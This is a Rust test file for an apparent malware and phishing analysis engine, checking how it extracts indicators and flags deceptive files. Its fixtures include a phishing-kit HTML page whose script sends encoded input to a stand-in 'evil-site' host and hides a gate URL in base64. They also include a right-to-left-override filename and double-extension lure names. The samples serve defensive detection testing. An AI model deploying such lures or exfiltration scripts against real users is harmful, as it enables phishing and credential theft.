//! Real bytes through the real analyzers.

use super::artifact;
use crate::{Analysis, Engine, Settings};
use watchfire_model::{
    DiagnosticSeverity, DomainName, Encoding, Moment, Observed, Organisation, Place, Role, Untrusted, Verdict, Via,
};

fn analyze(name: &str, bytes: &[u8]) -> Analysis {
    let settings = Settings {
        organisation: Organisation {
            domains: vec![DomainName::parse("corp.example").unwrap()],
            ..Organisation::default()
        },
        ..Settings::default()
    };
    let engine = Engine::new(settings);
    engine.analyze(artifact(name, bytes), &engine.budget())
}

/// Each observable of the root as `type value line @start..end raw`.
fn check(name: &str, bytes: &[u8], expected: &[&str]) -> Analysis {
    let analysis = analyze(name, bytes);
    let root = &analysis.artifacts[0];
    let found: Vec<String> = root
        .observables
        .iter()
        .map(|seen| {
            let (kind, value) = (seen.observable.kind(), seen.observable.raw());
            format!(
                "{kind} {value} :{} @{}..{} {}",
                seen.line,
                seen.span.start,
                seen.span.end,
                seen.raw.raw()
            )
        })
        .collect();
    assert_eq!(found, expected, "{:?}", root);
    analysis
}

#[test]
fn text_is_read_in_place() {
    let analysis = check(
        "note.txt",
        b"first\nsee 203[.]0[.]113[.]7 now\n",
        &["ipv4 203.0.113.7 :2 @10..27 203[.]0[.]113[.]7"],
    );
    assert!(analysis.artifacts[0].read);
}

#[test]
fn utf_16_maps_back_to_its_bytes() {
    let mut bytes = vec![0xff, 0xfe];
    bytes.extend("a\nip 203.0.113.7".encode_utf16().flat_map(u16::to_le_bytes));
    check("note.txt", &bytes, &["ipv4 203.0.113.7 :2 @12..34 203.0.113.7"]);
}

#[test]
fn html_shows_text_and_links() {
    let page =
        b"<html><body>\n<p>host 203.0.113.7</p>\n<a href=\"http://evil.example/x\">docusign.com</a></body></html>";
    let analysis = analyze("page.html", page);
    let values: Vec<&str> = analysis.artifacts[0]
        .observables
        .iter()
        .map(|seen| seen.observable.raw())
        .collect();
    assert!(
        values.contains(&"203.0.113.7") && values.contains(&"http://evil.example/x"),
        "{values:?}"
    );
    assert!(
        analysis
            .findings
            .iter()
            .any(|finding| finding.rule.0 == "link-text-differs")
    );
}

#[test]
fn binaries_give_hints_and_do_not_count_as_read() {
    let mut bytes = vec![0, 1, 2, 0xff, 0xfe];
    bytes.extend(b"\0\0http://evil.example/gate.php\0\0\x80\x81");
    let analysis = analyze("blob.bin", &bytes);
    assert!(!analysis.artifacts[0].read && !analysis.coverage.is_complete());
    let url = &analysis.artifacts[0].observables[0];
    assert_eq!(
        (url.observable.raw(), url.span.start),
        ("http://evil.example/gate.php", 7)
    );
    assert_eq!(url.confidence, watchfire_model::Confidence::Low);
    assert_eq!(analysis.diagnostics[0].code, "no-analyzer");
}

#[test]
fn what_belongs_to_somebody_is_tagged() {
    let analysis = analyze("note.txt", b"mx1.corp.example 203.0.113.7 10.0.0.1 T1156");
    let tags: Vec<(String, Vec<&str>)> = analysis.artifacts[0]
        .observables
        .iter()
        .map(|seen| {
            (
                seen.observable.raw().to_owned(),
                seen.tags.iter().map(|tag| tag.0).collect(),
            )
        })
        .collect();
    for (value, tag) in [
        ("mx1.corp.example", "own-organisation"),
        ("mx1.corp.example", "documentation"),
        ("203.0.113.7", "documentation"),
        ("10.0.0.1", "private"),
        ("T1156", "attack-revoked"),
    ] {
        let found = tags.iter().any(|(seen, tags)| seen == value && tags.contains(&tag));
        assert!(found, "{value} {tag}: {tags:?}");
    }
}

#[test]
fn empty_input_is_read() {
    let analysis = check("empty", b"", &[]);
    assert!(analysis.coverage.is_complete());
}

/// A text with the password, and a zip that it opens, in either order. Made with `zip -X -P hunter2`; all of it inert.
const PASSWORD_FIRST: &[u8] = include_bytes!("data/password-first.zip");
const PASSWORD_LAST: &[u8] = include_bytes!("data/password-last.zip");

#[test]
fn an_archive_opens_with_the_password_beside_it() {
    for bytes in [PASSWORD_FIRST, PASSWORD_LAST] {
        let analysis = analyze("delivery.zip", bytes);
        let last = analysis.artifacts.last().unwrap();
        assert_eq!(last.path.raw(), "delivery.zip ▸ invoice.zip ▸ Invoice_88213.pdf.lnk");
        let finding = analysis
            .findings
            .iter()
            .find(|finding| finding.rule.0 == "archive-password-beside")
            .unwrap();
        let beside = &finding.evidence()[1];
        assert_eq!(
            (beside.path.raw(), &beside.place),
            ("delivery.zip ▸ body.txt", &Place::Line(2))
        );
        assert_eq!(beside.excerpt.raw(), "password: ••••");
        let judgement = crate::judge(&analysis.findings, &analysis.artifacts, &analysis.coverage);
        assert_eq!(judgement.verdict, Verdict::Malicious, "{:?}", analysis.findings);
    }
}

#[test]
fn a_file_of_a_known_identity_is_benign_and_an_empty_one_is_not() {
    for (bytes, verdict, summary) in [
        (&b"\n"[..], Verdict::Benign, "known good by its identity"),
        (b"", Verdict::Unknown, "there is nothing in it to judge"),
    ] {
        let analysis = analyze("file", bytes);
        let judgement = crate::judge(&analysis.findings, &analysis.artifacts, &analysis.coverage);
        assert_eq!(
            (judgement.verdict, judgement.summary.as_str()),
            (verdict, summary),
            "{bytes:?}"
        );
    }
}

#[test]
fn digests_of_every_kind_are_looked_up() {
    for value in [
        "d41d8cd98f00b204e9800998ecf8427e",
        "d14a028c2a3a2bc9476102bb288234c415a2b01f828ea62ac5b3e42f",
    ] {
        let text = format!("md5 or sha224: {value}\n");
        let analysis = analyze("report.txt", text.as_bytes());
        let tagged = analysis
            .artifacts
            .iter()
            .flat_map(|artifact| &artifact.observables)
            .any(|seen| seen.observable.raw() == value && seen.tags.iter().any(|tag| tag.0 == "empty-hashes"));
        assert!(tagged, "{value}: {analysis:#?}");
    }
}

#[test]
fn containers_that_nothing_opens_are_named() {
    let udf = [&[0; 0x8001], b"BEA01\x01".as_slice(), &[0; 512]].concat();
    for (name, bytes, what) in [
        ("a.iso", udf.as_slice(), "UDF image"),
        ("a.Z", b"\x1f\x9d\x90\x74\xca\xa4", "compress stream (.Z)"),
        ("a.lz", b"LZIP\x01\x0c\0\x3a\x19", "lzip stream"),
    ] {
        let analysis = analyze(name, bytes);
        let [remark] = analysis.diagnostics.as_slice() else {
            panic!("{name}: {:?}", analysis.diagnostics);
        };
        let said = format!("identified, not opened: {what}; only its strings were looked at");
        assert_eq!((remark.code, remark.message.raw()), ("not-opened", said.as_str()));
        assert_eq!(remark.severity, DiagnosticSeverity::Warning);
        assert!(!analysis.coverage.is_complete() && analysis.coverage.inputs_read == 1);
    }
}

/// A tar file with one member.
fn tar(name: &str, content: &[u8]) -> Vec<u8> {
    let mut block = name.as_bytes().to_vec();
    block.resize(512, 0);
    block[100..108].copy_from_slice(b"0000644\0");
    block[124..136].copy_from_slice(format!("{:011o}\0", content.len()).as_bytes());
    block[156] = b'0';
    block[257..265].copy_from_slice(b"ustar\x0000");
    block[148..156].fill(b' ');
    let sum: u32 = block.iter().map(|byte| u32::from(*byte)).sum();
    block[148..156].copy_from_slice(format!("{sum:06o}\0 ").as_bytes());
    block.extend(content);
    block.resize(512 + content.len().next_multiple_of(512) + 1024, 0);
    block
}

#[test]
fn a_deceptive_name_is_told_once_where_it_stands() {
    let hidden = "invoice\u{202e}txt.exe";
    let places = |name: &str, bytes: &[u8]| -> Vec<(String, Place)> {
        let analysis = analyze(name, bytes);
        let found = analysis.findings.iter();
        let found = found.filter(|finding| finding.rule.0 == "archive-deceptive-name");
        found
            .flat_map(|finding| finding.evidence())
            .map(|evidence| (evidence.path.raw().to_owned(), evidence.place.clone()))
            .collect()
    };
    let archive = tar(hidden, b"plain text");
    assert_eq!(places("a.tar", &archive), [("a.tar".to_owned(), Place::Member(1))]);
    assert_eq!(places(hidden, b"plain text"), [(hidden.to_owned(), Place::Whole)]);
}

/// What a kit sends as an attachment: nothing to see, everything in its scripts.
const KIT: &str = "<html><head><title>DocuSign</title><script>window.location.href=\"https://phish.evil-site.com/login?u=\"+\
    btoa(e);var x=atob(\"aHR0cHM6Ly9ldmlsLXNpdGUyLmNvbS9nYXRlLnBocA==\");</script></head>\
    <body onload=\"location='http://onload.evil-site.com/?a=1&amp;b=2'\"><!-- kit by http://hidden.evil-site.com/x --><p>Hello</p></body></html>";

#[test]
fn scripts_handlers_and_comments_are_read() {
    let analysis = analyze("js.html", KIT.as_bytes());
    let of = |via: Via| -> Vec<&str> {
        let seen = analysis.artifacts[0].observables.iter();
        seen.filter(|seen| seen.via == Some(via))
            .map(|seen| seen.observable.raw())
            .collect()
    };
    let scripts = of(Via::Script);
    for url in [
        "https://phish.evil-site.com/login?u=",
        "http://onload.evil-site.com/?a=1&b=2",
    ] {
        assert!(scripts.contains(&url), "{url} in {scripts:?}");
    }
    assert!(
        scripts.iter().any(|value| value.contains("evil-site2.com")),
        "{scripts:?}"
    );
    assert!(of(Via::Comment).contains(&"http://hidden.evil-site.com/x"));
    let presented = |seen: &&Observed| seen.role != Role::Mentioned;
    assert_eq!(analysis.artifacts[0].observables.iter().find(presented), None);
}

#[test]
fn a_page_made_by_its_script_says_so() {
    let analysis = analyze("js.html", KIT.as_bytes());
    assert!(!analysis.artifacts[0].read, "nobody saw what the script shows");
    assert_eq!(analysis.diagnostics[0].code, "html-script-page");
    assert!(
        analysis
            .findings
            .iter()
            .any(|finding| finding.rule.0 == "document-script-page")
    );

    let article = format!(
        "<p>{}</p><script>track('https://stats.example/')</script>",
        "word ".repeat(100)
    );
    let analysis = analyze("article.html", article.as_bytes());
    assert!(analysis.artifacts[0].read);
    assert_eq!(analysis.diagnostics[0].code, "html-script");
    assert_eq!(analysis.findings, []);

    let loader = "<div id=root></div><script src=https://cdn.example/app.js></script>";
    let analysis = analyze("loader.html", loader.as_bytes());
    assert!(!analysis.artifacts[0].read && analysis.findings.is_empty());

    let page = "<h1>Notice</h1><!-- no script here -->";
    assert_eq!(analyze("page.html", page.as_bytes()).diagnostics, []);
}

#[test]
fn raw_is_what_stands_there() {
    let base = "<base href='https://base.example/d/'><a href=sub/evil.exe>t</a>";
    let pages = [
        KIT,
        base,
        "<a href=\"http://evil-site.com/a\">x</a> <p>203.0.113&#46;7 and ev<wbr>il-site2.co&#109; and x</p>",
        "<a href='https&#58;//evil-site.com/?a=1&amp;b=2#c'>x</a><img src='//cdn.evil-site.com/p.png'>",
        "<!-- é --><p hidden>http://evil-site.com/\u{200b}x</p><input value='a@evil-site.com'>",
    ];
    for page in pages {
        let wide: Vec<u8> = "\u{feff}"
            .encode_utf16()
            .chain(page.encode_utf16())
            .flat_map(u16::to_le_bytes)
            .collect();
        let utf32: Vec<u8> = "\u{feff}"
            .chars()
            .chain(page.chars())
            .flat_map(|c| u32::from(c).to_be_bytes())
            .collect();
        let marked: Vec<u8> = [b"\xef\xbb\xbf".as_slice(), page.as_bytes()].concat();
        for (bytes, encoding) in [
            (page.as_bytes().to_vec(), None),
            (marked, None),
            (wide, Some(Encoding::Utf16Le)),
            (utf32, Some(Encoding::Utf32Be)),
        ] {
            let analysis = analyze("page.html", &bytes);
            let root = &analysis.artifacts[0];
            assert!(!root.observables.is_empty());
            for seen in &root.observables {
                let there = &bytes[seen.span.start as usize..seen.span.end as usize];
                let there = match encoding {
                    None => String::from_utf8_lossy(there).into_owned(),
                    Some(Encoding::Utf16Le) => {
                        let units = there.chunks(2).map(|unit| u16::from_le_bytes([unit[0], unit[1]]));
                        String::from_utf16(&units.collect::<Vec<_>>()).unwrap()
                    }
                    Some(_) => there
                        .chunks(4)
                        .map(|unit| char::from_u32(u32::from_be_bytes(unit.try_into().unwrap())).unwrap())
                        .collect(),
                };
                assert_eq!(seen.raw.raw(), there, "{page}: {seen:?}");
                let decoded = matches!(seen.encoding, Some(Encoding::Base64 | Encoding::Percent));
                assert!(decoded || seen.encoding == encoding, "{seen:?}");
            }
        }
    }
}

#[test]
fn utf_32_is_named() {
    let bytes: Vec<u8> = "\u{feff}ip 203.0.113.7"
        .chars()
        .flat_map(|c| u32::from(c).to_le_bytes())
        .collect();
    let analysis = check("note.txt", &bytes, &["ipv4 203.0.113.7 :1 @16..60 203.0.113.7"]);
    assert_eq!(analysis.artifacts[0].observables[0].encoding, Some(Encoding::Utf32Le));
}

#[test]
fn an_input_may_lie_about_itself() {
    let lies = |name: &str| {
        let analysis = analyze(name, b"anything");
        analysis
            .findings
            .iter()
            .any(|finding| finding.rule.0 == "archive-double-extension")
    };
    assert!(lies("invoice.pdf.exe") && lies("mail/invoice.docx.lnk"));
    assert!(!lies("invoice.pdf") && !lies("logo.svg.js") && !lies("setup-1.2.exe"));
}

#[test]
fn a_file_and_the_text_that_lists_it_are_linked() {
    let sample = analyze("in/tool.bin", b"abc");
    let id = sample.artifacts[0].sha256.unwrap();
    let report = analyze("report.txt", format!("first line\nseen: {id}\n").as_bytes());
    let assembly = crate::Assembly {
        as_of: Moment::parse("2026-11-21T00:00:00Z").unwrap(),
        version: "test",
        tlp: None,
        suppressions: &[],
        organisation: &watchfire_model::Organisation::default(),
        search: None,
    };
    let whole = crate::assemble([sample, report], &assembly);
    let listed: Vec<Option<&str>> = whole
        .artifacts
        .iter()
        .map(|it| it.listed_in.as_ref().map(Untrusted::raw))
        .collect();
    assert_eq!(listed, [Some("report.txt:2"), None]);
}

#[test]
fn urls_are_followed_through_link_protection() {
    let text = b"see https://urldefense.com/v3/__https://real.evil-site.com/*a__;Iw!!x$ and\n\
        https://eur01.safelinks.protection.outlook.com/?url=https%3A%2F%2Fother.evil-site.com%2Fb&data=05\n\
        https://protect-us.mimecast.com/s/aBc?domain=third.evil-site.com\n";
    let analysis = analyze("note.txt", text);
    let seen = |value: &str| {
        let all = &analysis.artifacts[0].observables;
        let found = all.iter().find(|seen| seen.observable.raw() == value);
        found.map(|seen| (seen.via, seen.line, seen.count))
    };
    assert_eq!(
        seen("https://real.evil-site.com/#a"),
        Some((Some(Via::Unwrapped), 1, 1))
    );
    assert_eq!(
        seen("https://other.evil-site.com/b"),
        Some((Some(Via::Unwrapped), 2, 1))
    );
    assert!(matches!(
        seen("third.evil-site.com"),
        Some((Some(Via::Unwrapped), 3, _))
    ));
}

#[test]
fn links_are_followed_through_redirectors() {
    let page = br#"<p>hi <a href="https://www.bing.com/ck/a?!&amp;u=a1aHR0cHM6Ly9yZWFsLmV2aWwtc2l0ZS5jb20veA&amp;ntb=1">x</a>"#;
    let analysis = analyze("page.html", page);
    let all = &analysis.artifacts[0].observables;
    let via = |value: &str| {
        all.iter()
            .find(|seen| seen.observable.raw() == value)
            .map(|seen| seen.via)
    };
    assert_eq!(via("https://real.evil-site.com/x"), Some(Some(Via::Unwrapped)));
    assert!(
        all.iter()
            .any(|seen| seen.observable.raw().starts_with("https://www.bing.com/ck/a"))
    );
}
